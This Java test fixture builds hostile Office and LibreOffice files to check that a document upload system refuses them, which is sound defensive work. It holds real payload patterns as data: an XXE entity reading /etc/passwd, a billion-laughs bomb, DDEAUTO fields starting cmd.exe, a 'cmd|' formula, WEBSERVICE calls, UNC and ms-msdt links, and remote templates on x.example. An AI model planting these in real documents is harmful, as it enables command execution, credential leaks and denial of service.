package az.icma.files;

import java.nio.charset.StandardCharsets;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import static az.icma.files.Archive.field;
import static az.icma.files.Archive.open;
import static az.icma.files.Archive.outside;
import static az.icma.files.Archive.relation;
import static az.icma.files.Archive.relations;
import static az.icma.files.Archive.sheet;
import static az.icma.files.Archive.types;
import static az.icma.files.Archive.word;
import static az.icma.files.Refusal.DAMAGED;
import static az.icma.files.Refusal.ELSEWHERE;
import static az.icma.files.Refusal.ENCRYPTED;
import static az.icma.files.Refusal.ENTITIES;
import static az.icma.files.Refusal.FORMULA;
import static az.icma.files.Refusal.INSIDE;
import static az.icma.files.Refusal.MACROS;
import static az.icma.files.Refusal.PIXELS;

/** Documents of Word, Excel and LibreOffice that do, fetch or carry more than they show. */
final class HostileOffice {

    private static final String RELATIONS = "word/_rels/document.xml.rels";
    private static final String DOCUMENT = "word/document.xml";
    private static final String LAUGHS = "<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>";
    private static final String OUTER = "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>";

    private HostileOffice() {}

    static Stream<HostileFile> all() {
        return Stream.of(ofWord(), ofExcel(), ofLibreOffice()).flatMap(files -> files);
    }

    private static Stream<HostileFile> ofWord() {
        return Stream.of(
                docx(MACROS, "macros of Word", a -> a.with("word/vbaProject.bin", "1")),
                docx(
                        MACROS,
                        "a document with macros under the harmless end",
                        a -> a.with(
                                Archive.TYPES,
                                types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
                docx(MACROS, "a control that runs", a -> a.with("word/activeX/activeX1.xml", "<a/>")),
                docx(
                        ELSEWHERE,
                        "a template from elsewhere",
                        a -> a.with(
                                "word/_rels/settings.xml.rels",
                                outside("attachedTemplate", "http://x.example/t.dotm"))),
                docx(
                        ELSEWHERE,
                        "a picture from elsewhere",
                        a -> a.with(RELATIONS, outside("image", "http://x.example/1.png"))),
                docx(
                        ELSEWHERE,
                        "an object from elsewhere",
                        a -> a.with(RELATIONS, outside("oleObject", "mhtml:http://x.example/"))),
                docx(
                        ELSEWHERE,
                        "a link to a program",
                        a -> a.with(RELATIONS, outside("hyperlink", "file:///c:/x.exe"))),
                docx(
                        ELSEWHERE,
                        "a link that sends the password of the computer",
                        a -> a.with(RELATIONS, outside("hyperlink", "\\\\x.example\\a"))),
                docx(
                        ELSEWHERE,
                        "a link that runs a protocol",
                        a -> a.with(RELATIONS, outside("hyperlink", "ms-msdt:/id"))),
                docx(
                        ELSEWHERE,
                        "a field that starts a program",
                        a -> a.with(DOCUMENT, word(field(" DDEAUTO c:\\\\cmd.exe ")))),
                docx(ELSEWHERE, "the same in pieces", a -> a.with(DOCUMENT, word(field("D", "DEA", "UTO cmd")))),
                docx(
                        ELSEWHERE,
                        "a field that includes a file",
                        a -> a.with(DOCUMENT, word(field("INCLUDETEXT \"c:\\\\a\"")))),
                docx(
                        ELSEWHERE,
                        "a simple field that includes a picture",
                        a -> a.with(
                                DOCUMENT,
                                word("<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://x.example/a\"'/></w:p>"))),
                docx(
                        ELSEWHERE,
                        "a drawing of an address",
                        a -> a.with(DOCUMENT, word("<v:imagedata src='http://x.example/a'/>"))),
                docx(INSIDE, "an object of another program", a -> a.with("word/embeddings/oleObject1.bin", "1")),
                docx(
                        INSIDE,
                        "a page within the document",
                        a -> a.with(RELATIONS, relations(relation("aFChunk", "a.htm", "")))),
                docx(INSIDE, "a program called a picture within", a -> a.with("word/media/image1.png", "MZ program")),
                docx(
                        INSIDE,
                        "an archive within the archive",
                        a -> a.with("word/media/image1.png", Archive.xlsx().bytes())),
                docx(
                        PIXELS,
                        "a picture within that is too large",
                        a -> a.with("word/media/image1.png", SmallFiles.pngOf(90_000, 90_000))),
                docx(ENTITIES, "a file of the server as an entity", a -> a.with(DOCUMENT, OUTER + "<a>&a;</a>")),
                docx(ENTITIES, "a billion laughs", a -> a.with(DOCUMENT, LAUGHS + "<a>&b;</a>")),
                docx(
                        ENTITIES,
                        "the same in another alphabet",
                        a -> a.with(DOCUMENT, ("\uFEFF" + LAUGHS + "<a/>").getBytes(StandardCharsets.UTF_16BE))),
                docx(DAMAGED, "a document that is no XML", a -> a.with(DOCUMENT, "<w:document>")));
    }

    private static Stream<HostileFile> ofExcel() {
        return Stream.of(
                xlsx(MACROS, "macros of Excel 4", a -> a.with("xl/macrosheets/sheet1.xml", "<a/>")),
                xlsx(ELSEWHERE, "another workbook", a -> a.with("xl/externalLinks/externalLink1.xml", "<a/>")),
                xlsx(ELSEWHERE, "a connection to a database", a -> a.with("xl/connections.xml", "<a/>")),
                xlsx(
                        FORMULA,
                        "a cell that starts a program",
                        a -> a.with("xl/worksheets/sheet1.xml", sheet("cmd|'/c calc'!A1"))),
                xlsx(
                        FORMULA,
                        "a cell that sends away",
                        a -> a.with("xl/worksheets/sheet1.xml", sheet("WEBSERVICE(A1)"))),
                xlsx(
                        INSIDE,
                        "a workbook within the workbook",
                        a -> a.with("xl/embeddings/book.xlsx", Archive.xlsx().bytes())));
    }

    private static Stream<HostileFile> ofLibreOffice() {
        return Stream.of(
                odt(MACROS, "macros of LibreOffice", a -> a.with("Basic/Standard/Module1.xml", "<a/>")),
                odt(
                        MACROS,
                        "a macro when it opens",
                        a -> a.with("content.xml", open("<script:event-listener script:event-name='dom:load'/>"))),
                odt(
                        ELSEWHERE,
                        "a picture from elsewhere in ODT",
                        a -> a.with("content.xml", open("<draw:image xlink:href='http://x.example/a'/>"))),
                odt(
                        ELSEWHERE,
                        "a template from elsewhere in ODT",
                        a -> a.with("meta.xml", open("<meta:template xlink:href='http://x.example/a'/>"))),
                odt(
                        ELSEWHERE,
                        "a section of another file",
                        a -> a.with("content.xml", open("<text:section-source xlink:href='../../a.odt'/>"))),
                odt(
                        ELSEWHERE,
                        "a link that runs a script",
                        a -> a.with("content.xml", open("<text:a xlink:href='vnd.sun.star.script:a'/>"))),
                odt(
                        ELSEWHERE,
                        "a live link to another program",
                        a -> a.with("content.xml", open("<text:dde-connection-decl/>"))),
                odt(
                        INSIDE,
                        "an object of another program in ODT",
                        a -> a.with("Object 1", SmallFiles.bytes("\u00d0\u00cf\u0011\u00e0..."))),
                odt(
                        ENCRYPTED,
                        "a locked document of LibreOffice",
                        a -> a.with("META-INF/manifest.xml", open("<manifest:encryption-data/>"))),
                odt(
                        ENTITIES,
                        "a file of the server as an entity in ODT",
                        a -> a.with("content.xml", OUTER + "<a>&a;</a>")));
    }

    private static HostileFile docx(Refusal refusal, String attack, UnaryOperator<Archive> change) {
        return HostileFile.of(refusal, attack, "letter.docx", () -> change.apply(Archive.docx())
                .bytes());
    }

    private static HostileFile xlsx(Refusal refusal, String attack, UnaryOperator<Archive> change) {
        return HostileFile.of(
                refusal, attack, "list.xlsx", () -> change.apply(Archive.xlsx()).bytes());
    }

    private static HostileFile odt(Refusal refusal, String attack, UnaryOperator<Archive> change) {
        return HostileFile.of(
                refusal, attack, "letter.odt", () -> change.apply(Archive.odt()).bytes());
    }
}
